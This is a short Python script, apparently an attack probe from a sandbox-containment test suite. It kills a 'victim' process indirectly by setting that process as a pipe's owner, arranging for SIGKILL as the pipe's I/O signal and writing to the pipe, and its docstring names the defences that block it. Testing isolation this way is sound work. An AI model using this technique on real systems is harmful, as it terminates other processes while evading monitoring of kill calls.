"""Has the kernel signal another process when a pipe can be read: no call that kills.

stopped-by: namespaces, landlock, privileges
evidence: victim
leaks: the other process has ended, or is stopped
"""

import fcntl
import os
import signal
import time

from evalmode_runner.attacks.tools import facts

reads, writes = os.pipe()
fcntl.fcntl(reads, fcntl.F_SETOWN, facts.victim)
fcntl.fcntl(reads, 10, signal.SIGKILL)  # F_SETSIG
fcntl.fcntl(reads, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(writes, b"now")
time.sleep(0.1)
